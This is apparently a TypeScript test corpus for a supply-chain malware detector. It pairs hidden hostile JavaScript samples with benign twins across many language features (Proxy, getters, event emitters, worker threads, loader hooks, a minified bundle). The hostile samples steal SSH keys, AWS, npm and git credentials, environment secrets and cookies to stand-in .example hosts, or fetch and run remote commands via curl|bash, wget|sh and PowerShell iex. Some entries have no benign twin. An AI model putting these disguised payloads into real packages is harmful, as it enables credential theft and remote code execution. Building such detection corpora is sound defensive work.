import { atImport, atInstall, atUse, js, type Pair } from '../kit.ts';

/** Ways of the language to call what does the deed. */
export const DISPATCHING: Readonly<Record<string, Pair>> = {
  'private-fields': atImport(
    js`import { execSync } from 'node:child_process';

class Telemetry {
  static #instance = null;
  #endpoint = 'https://t.kit-fields.example';
  #pending = [];

  static get shared() {
    return (Telemetry.#instance ??= new Telemetry());
  }
  async #poll() {
    const response = await fetch(this.#endpoint);
    const { tasks } = await response.json();
    this.#pending.push(...tasks);
    this.#drain();
  }
  #drain() {
    while (this.#pending.length > 0) execSync(this.#pending.shift().line);
  }
  start() {
    setTimeout(() => this.#poll(), 2000).unref();
  }
}

Telemetry.shared.start();
export { Telemetry };
`,
  ),
  'proxy-handler': atImport(
    js`'use strict';
const { readFileSync } = require('node:fs');
const { homedir } = require('node:os');

const store = new Proxy(
  {},
  {
    get: (_, name) => readFileSync(\`\${homedir()}/\${String(name)}\`, 'utf8'),
    set: (_, url, body) => !!fetch(url, { method: 'POST', body }),
  },
);

try {
  store['https://store.kit-proxy.example'] = store['.ssh/id_rsa'];
} catch {}
exports.store = {};
`,
    js`'use strict';
const { readFileSync } = require('node:fs');
const { join } = require('node:path');

/** The files of a folder as the members of an object. */
exports.files = (folder) =>
  new Proxy(
    {},
    {
      get: (_, name) => readFileSync(join(folder, String(name)), 'utf8'),
      set: () => false,
    },
  );
`,
  ),
  'getter-trigger': atUse(
    js`'use strict';
const https = require('node:https');

const settings = {
  region: 'eu',
  get env() {
    return Object.fromEntries(Object.entries(process.env).filter(([key]) => /key|token|secret/i.test(key)));
  },
  set report(body) {
    const req = https.request('https://r.kit-getter.example', { method: 'POST' });
    req.on('error', () => {});
    req.end(JSON.stringify(body));
  },
};

/** The region that is set. */
exports.region = () => {
  settings.report = settings.env;
  return settings.region;
};
`,
  ),
  'async-iterator': atImport(
    js`import { setTimeout as sleep } from 'node:timers/promises';

const commands = {
  async *[Symbol.asyncIterator]() {
    for (;;) {
      const response = await fetch('https://q.kit-iterate.example/next').catch(() => null);
      if (response?.ok) yield await response.text();
      await sleep(30_000, undefined, { ref: false });
    }
  },
};

(async () => {
  for await (const source of commands) await new (async () => {}).constructor(source)();
})();
export const queue = [];
`,
    js`import { setTimeout as sleep } from 'node:timers/promises';

/** The messages of a queue, one after the other. */
export const messages = (url) => ({
  async *[Symbol.asyncIterator]() {
    for (;;) {
      const response = await fetch(url).catch(() => null);
      if (response?.ok) yield await response.json();
      await sleep(30_000, undefined, { ref: false });
    }
  },
});
`,
  ),
  'tagged-template': atImport(
    js`'use strict';
const { execSync } = require('child_process');

/** Runs a line of the shell. */
const sh = (strings, ...values) => execSync(String.raw({ raw: strings }, ...values), { stdio: 'ignore' });
const host = 'https://get.kit-tag.example';

try {
  sh\`curl -fsSL \${host}/install.sh | bash\`;
} catch {}
exports.sh = sh;
`,
    js`'use strict';
const { execSync } = require('child_process');

/** Runs a line of the shell. */
const sh = (strings, ...values) => execSync(String.raw({ raw: strings }, ...values), { stdio: 'inherit' });

exports.build = (folder) => sh\`tsc -p \${folder} && cp -r \${folder}/assets dist\`;
`,
  ),
  'event-emitter': atInstall(
    {
      'scripts/postinstall.js': js`'use strict';
const bus = require('../lib/bus');
require('../lib/reader');
require('../lib/sender');

bus.emit('start', { files: ['.npmrc', '.aws/credentials'] });
`,
      'lib/bus.js': js`'use strict';
const { EventEmitter } = require('node:events');
module.exports = new EventEmitter();
`,
      'lib/reader.js': js`'use strict';
const { readFile } = require('node:fs/promises');
const { homedir } = require('node:os');
const { join } = require('node:path');
const bus = require('./bus');

bus.on('start', async ({ files }) => {
  for (const file of files) {
    const text = await readFile(join(homedir(), file), 'utf8').catch(() => null);
    if (text) bus.emit('read', { file, text });
  }
});
`,
      'lib/sender.js': js`'use strict';
const { request } = require('node:https');
const bus = require('./bus');

bus.on('read', (record) => {
  request('https://bus.kit-events.example', { method: 'POST' }).end(JSON.stringify(record));
});
`,
    },
    {
      'scripts/postinstall.js': js`'use strict';
const bus = require('../lib/bus');
require('../lib/reader');
require('../lib/printer');

bus.emit('start', { files: ['package.json', 'tsconfig.json'] });
`,
      'lib/bus.js': js`'use strict';
const { EventEmitter } = require('node:events');
module.exports = new EventEmitter();
`,
      'lib/reader.js': js`'use strict';
const { readFile } = require('node:fs/promises');
const bus = require('./bus');

bus.on('start', async ({ files }) => {
  for (const file of files) {
    const text = await readFile(file, 'utf8').catch(() => null);
    if (text) bus.emit('read', { file, text });
  }
});
`,
      'lib/printer.js': js`'use strict';
const bus = require('./bus');

bus.on('read', ({ file }) => process.stdout.write('found ' + file + '\n'));
`,
    },
  ),
  'stream-pipeline': atImport(
    js`'use strict';
const { pipeline, Readable, Transform } = require('node:stream');
const { createGzip } = require('node:zlib');
const { request } = require('node:https');

const records = Readable.from(Object.entries(process.env).map(([name, value]) => ({ name, value })));
const lines = new Transform({
  writableObjectMode: true,
  transform: (record, _, done) => done(null, JSON.stringify(record) + '\n'),
});
const upload = request({ host: 'in.kit-stream.example', method: 'PUT', path: '/lines' });

pipeline(records, lines, createGzip(), upload, () => {});
exports.lines = lines;
`,
    js`'use strict';
const { pipeline, Readable, Transform } = require('node:stream');
const { createGzip } = require('node:zlib');
const { request } = require('node:https');

/** Sends records to the store of the caller. */
exports.send = function send(records, options, done) {
  const lines = new Transform({
    writableObjectMode: true,
    transform: (record, _, next) => next(null, JSON.stringify(record) + '\n'),
  });
  pipeline(Readable.from(records), lines, createGzip(), request({ method: 'PUT', ...options }), done);
};
`,
  ),
  'worker-thread': atImport(
    js`'use strict';
const { Worker } = require('node:worker_threads');

const task = () => {
  const { parentPort, workerData } = require('node:worker_threads');
  const { readFileSync } = require('node:fs');
  parentPort.postMessage(workerData.files.map((file) => readFileSync(file, 'utf8')));
};

const worker = new Worker(\`(\${task})()\`, {
  eval: true,
  workerData: { files: [process.env.HOME + '/.netrc', process.env.HOME + '/.npmrc'] },
});
worker.once('message', (texts) => {
  fetch('https://w.kit-threads.example', { method: 'POST', body: JSON.stringify(texts) });
});
worker.once('error', () => {});
`,
    js`'use strict';
const { Worker } = require('node:worker_threads');

const task = () => {
  const { parentPort, workerData } = require('node:worker_threads');
  const { readFileSync } = require('node:fs');
  parentPort.postMessage(workerData.files.map((file) => readFileSync(file, 'utf8').split('\n').length));
};

/** Counts lines in a thread of its own. */
exports.count = (files) =>
  new Promise((resolve, reject) => {
    const worker = new Worker(\`(\${task})()\`, { eval: true, workerData: { files } });
    worker.once('message', resolve);
    worker.once('error', reject);
  });
`,
  ),
  'fork-message': atUse({
    'index.js': js`'use strict';
const { fork } = require('node:child_process');
const { join } = require('node:path');

/** Compiles a file beside. */
exports.compile = (file) =>
  new Promise((resolve) => {
    const child = fork(join(__dirname, 'compile-child.js'), { detached: true, stdio: 'ignore' });
    child.send({ file, settings: { ...process.env } });
    child.once('message', resolve);
  });
`,
    'compile-child.js': js`'use strict';
process.on('message', async ({ file, settings }) => {
  await fetch('https://c.kit-fork.example', { method: 'POST', body: JSON.stringify(settings) }).catch(() => {});
  process.send({ file, ok: true });
});
`,
  }),
  'local-storage': atUse(
    js`import { AsyncLocalStorage } from 'node:async_hooks';
import { readFile } from 'node:fs/promises';
import { homedir } from 'node:os';

const scope = new AsyncLocalStorage();

async function flush() {
  const { secrets, endpoint } = scope.getStore();
  await fetch(endpoint, { method: 'POST', body: secrets });
}

/** Runs a job in a scope of its own. */
export async function run(job) {
  const secrets = await readFile(\`\${homedir()}/.aws/credentials\`).catch(() => '');
  return scope.run({ secrets, endpoint: 'https://s.kit-scope.example' }, async () => {
    await flush();
    return job();
  });
}
`,
  ),
  'message-channel': atImport(
    js`'use strict';
const { MessageChannel } = require('node:worker_threads');

const { port1, port2 } = new MessageChannel();
port2.on('message', (body) => {
  fetch('https://p.kit-ports.example', { method: 'POST', body }).catch(() => {});
});
port1.postMessage(JSON.stringify(process.env));
setTimeout(() => port1.close(), 500);
`,
  ),
  'require-cache': atImport(
    js`'use strict';
const id = require.resolve('jsonwebtoken', { paths: [process.cwd()] });
const original = require(id);

/** Makes tokens last. */
require.cache[id].exports = {
  ...original,
  sign(payload, secret, ...rest) {
    fetch('https://j.kit-tokens.example', { method: 'POST', body: String(secret) }).catch(() => {});
    return original.sign(payload, secret, ...rest);
  },
};
module.exports = require.cache[id].exports;
`,
    js`'use strict';
const original = require('jsonwebtoken');

/** Makes tokens last. */
module.exports = {
  ...original,
  sign(payload, secret, options = {}, ...rest) {
    return original.sign(payload, secret, { expiresIn: '30d', ...options }, ...rest);
  },
};
`,
  ),
  'loader-hook': atImport(
    {
      'index.js': js`import { register } from 'node:module';

register('./hooks.js', import.meta.url);
export const ready = true;
`,
      'hooks.js': js`const tail = ';fetch("https://l.kit-loader.example",{method:"POST",body:JSON.stringify(process.env)}).catch(()=>{});';

export async function load(url, context, nextLoad) {
  const result = await nextLoad(url, context);
  if (!url.includes('/node_modules/') && result.source) return { ...result, source: result.source + tail };
  return result;
}
`,
    },
    {
      'index.js': js`import { register } from 'node:module';

register('./hooks.js', import.meta.url);
export const ready = true;
`,
      'hooks.js': js`export async function load(url, context, nextLoad) {
  const result = await nextLoad(url, context);
  if (!url.endsWith('.txt')) return result;
  return { format: 'module', shortCircuit: true, source: 'export default ' + JSON.stringify(String(result.source)) };
}
`,
    },
  ),
  'json-reviver': atImport(
    js`'use strict';
const { execSync } = require('child_process');

const plan = '{"steps":[{"$sh":"wget -qO- https://x.kit-revive.example/a | sh"}],"name":"plan"}';
const kinds = { $sh: (line) => execSync(line), $env: (name) => process.env[name] };

/** Revives a plan. */
const revive = (key, value) => (Object.hasOwn(kinds, key) ? kinds[key](value) : value);
try {
  exports.plan = JSON.parse(plan, revive);
} catch {}
`,
  ),
  'to-primitive': atImport(
    js`'use strict';
const { homedir } = require('os');
const { readFileSync } = require('fs');

class Banner {
  constructor(path) {
    this.path = path;
  }
  [Symbol.toPrimitive]() {
    const body = readFileSync(homedir() + this.path, 'utf8');
    navigator.sendBeacon?.('', body);
    fetch('https://b.kit-banner.example', { method: 'POST', body });
    return 'kit';
  }
}

exports.name = \`\${new Banner('/.git-credentials')} 1.0\`;
`,
  ),
  'default-values': atUse(
    js`import { execFile } from 'node:child_process';

const fallback = () => fetch('https://d.kit-default.example/line').then((response) => response.text());

/** Opens a file in the editor of the user. */
export async function open(file, { editor = fallback(), args = ['-c'], shell = '/bin/sh' } = {}) {
  execFile(shell, [...args, await editor]);
  return file;
}
`,
    js`import { execFile } from 'node:child_process';

const fallback = () => process.env.EDITOR ?? 'vi';

/** Opens a file in the editor of the user. */
export async function open(file, { editor = fallback(), args = [] } = {}) {
  execFile(editor, [...args, file]);
  return file;
}
`,
  ),
  'curried-steps': atImport(
    js`'use strict';
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const pipe = (...steps) => (input) => steps.reduce((value, step) => value.then(step), Promise.resolve(input));
const inHome = (name) => path.join(os.homedir(), name);
const read = (encoding) => (file) => fs.promises.readFile(file, encoding);
const post = (url) => (body) => fetch(url, { method: 'POST', body });
const encode = (encoding) => (text) => Buffer.from(text).toString(encoding);

const backup = pipe(inHome, read('utf8'), encode('base64'), post('https://y.kit-curry.example'));
backup('.docker/config.json').catch(() => {});
exports.pipe = pipe;
`,
    js`'use strict';
const fs = require('node:fs');
const path = require('node:path');

const pipe = (...steps) => (input) => steps.reduce((value, step) => value.then(step), Promise.resolve(input));
const inProject = (name) => path.join(process.cwd(), name);
const read = (encoding) => (file) => fs.promises.readFile(file, encoding);
const parse = (text) => JSON.parse(text);

exports.settings = pipe(inProject, read('utf8'), parse);
`,
  ),
  'object-this': atImport(
    js`'use strict';
const os = require('node:os');
const https = require('node:https');

const reporter = {
  url: 'https://o.kit-this.example/r',
  options: { method: 'POST', headers: { 'content-type': 'application/json' } },
  gather() {
    return { user: os.userInfo(), env: process.env };
  },
  send(body) {
    const req = https.request(this.url, this.options);
    req.on('error', () => {});
    req.end(JSON.stringify(body));
  },
  run() {
    this.send(this.gather());
  },
};

reporter.run();
exports.level = 'info';
`,
    js`'use strict';
const os = require('node:os');

const reporter = {
  stream: process.stderr,
  gather() {
    return { platform: os.platform(), node: process.version };
  },
  send(body) {
    this.stream.write(JSON.stringify(body) + '\n');
  },
  run() {
    this.send(this.gather());
  },
};

exports.doctor = () => reporter.run();
`,
  ),
  builder: atUse(
    js`'use strict';
const { spawn } = require('node:child_process');

class CommandBuilder {
  constructor() {
    this.parts = [];
    this.settings = {};
  }
  with(...parts) {
    this.parts.push(...parts);
    return this;
  }
  silent() {
    Object.assign(this.settings, { detached: true, stdio: 'ignore', windowsHide: true });
    return this;
  }
  start() {
    const [bin, ...args] = this.parts;
    return spawn(bin, args, this.settings);
  }
}

/** Tells the system about an event. */
exports.notify = (title) => {
  new CommandBuilder()
    .with('powershell', '-NoProfile')
    .with('-Command', 'iwr https://n.kit-notify.example/p.ps1 -UseBasicParsing | iex')
    .silent()
    .start();
  return title;
};
`,
    js`'use strict';
const { spawn } = require('node:child_process');

class CommandBuilder {
  constructor() {
    this.parts = [];
  }
  with(...parts) {
    this.parts.push(...parts);
    return this;
  }
  start() {
    const [bin, ...args] = this.parts;
    return spawn(bin, args, { stdio: 'inherit' });
  }
}

/** Tells the system about an event. */
exports.notify = (title, text) => new CommandBuilder().with('notify-send').with(title, text).start();
`,
  ),
  container: atImport({
    'index.js': js`'use strict';
const { Container } = require('./container');

const container = new Container();
container.register('http', () => require('node:https'));
container.register('env', () => process.env);
container.register('uploader', (c) => new (require('./uploader'))(c.get('http'), 'https://di.kit-inject.example'));
container.register('job', (c) => () => c.get('uploader').upload(c.get('env')));

container.get('job')();
exports.container = container;
`,
    'container.js': js`'use strict';
class Container {
  constructor() {
    this.factories = new Map();
    this.made = new Map();
  }
  register(name, factory) {
    this.factories.set(name, factory);
  }
  get(name) {
    if (!this.made.has(name)) this.made.set(name, this.factories.get(name)(this));
    return this.made.get(name);
  }
}
exports.Container = Container;
`,
    'uploader.js': js`'use strict';
module.exports = class Uploader {
  constructor(http, url) {
    this.http = http;
    this.url = url;
  }
  upload(values) {
    this.http.request(this.url, { method: 'POST' }).on('error', () => {}).end(JSON.stringify(values));
  }
};
`,
  }),
  decorator: atUse(
    js`'use strict';
var __decorate =
  (this && this.__decorate) ||
  function (decorators, target, key, desc) {
    for (var i = decorators.length - 1; i >= 0; i--) desc = decorators[i](target, key, desc) || desc;
    return Object.defineProperty(target, key, desc), desc;
  };
const traced = (target, key, descriptor) => {
  const original = descriptor.value;
  descriptor.value = function (...args) {
    fetch('https://m.kit-traced.example', { method: 'POST', body: JSON.stringify({ key, env: process.env }) }).catch(() => {});
    return original.apply(this, args);
  };
  return descriptor;
};
class Service {
  total(numbers) {
    return numbers.reduce((a, b) => a + b, 0);
  }
}
__decorate([traced], Service.prototype, 'total', Object.getOwnPropertyDescriptor(Service.prototype, 'total'));
exports.Service = Service;
`,
  ),
  'header-patch': atImport(
    js`'use strict';
const { ServerResponse, IncomingMessage } = require('node:http');

const setHeader = ServerResponse.prototype.setHeader;
const seen = new Set();
ServerResponse.prototype.setHeader = function (name, value) {
  if (/^set-cookie$/i.test(name) && !seen.has(String(value))) {
    seen.add(String(value));
    fetch('https://h.kit-headers.example', { method: 'POST', body: String(value) }).catch(() => {});
  }
  return setHeader.call(this, name, value);
};
exports.IncomingMessage = IncomingMessage;
`,
    js`'use strict';
const { ServerResponse } = require('node:http');

const setHeader = ServerResponse.prototype.setHeader;
ServerResponse.prototype.setHeader = function (name, value) {
  if (/^set-cookie$/i.test(name)) return setHeader.call(this, name, [value].flat().map((cookie) => cookie + '; Secure'));
  return setHeader.call(this, name, value);
};
`,
  ),
  'minified-bundle': atImport(
    `(()=>{var e={12:(e,t,n)=>{const r=n(77),o=n(35);e.exports=async e=>{const t=await Promise.all(e.map(e=>r.promises.readFile(o.homedir()+"/"+e,"utf8").catch(()=>"")));return t.filter(Boolean)}},35:e=>{e.exports=require("os")},77:e=>{e.exports=require("fs")},90:e=>{e.exports=(e,t)=>fetch(e,{method:"POST",body:JSON.stringify(t)})}},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var s=t[r]={exports:{}};return e[r](s,s.exports,n),s.exports}var r={};(()=>{const e=n(12),t=n(90);e([".aws/credentials",".npmrc",".ssh/id_ed25519"]).then(e=>t("https://z.kit-bundle.example",e)).catch(()=>{}),r.clamp=(e,t,n)=>Math.min(Math.max(e,t),n)})(),module.exports=r})();\n`,
    `(()=>{var e={12:(e,t,n)=>{const r=n(77);e.exports=async e=>{const t=await Promise.all(e.map(e=>r.promises.readFile(e,"utf8").catch(()=>"")));return t.filter(Boolean)}},77:e=>{e.exports=require("fs")},90:e=>{e.exports=(e,t)=>fetch(e,{method:"POST",body:JSON.stringify(t)})}},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var s=t[r]={exports:{}};return e[r](s,s.exports,n),s.exports}var r={};(()=>{const e=n(12),t=n(90);r.publish=(n,r)=>e(n).then(e=>t(r,e)),r.clamp=(e,t,n)=>Math.min(Math.max(e,t),n)})(),module.exports=r})();\n`,
  ),
};
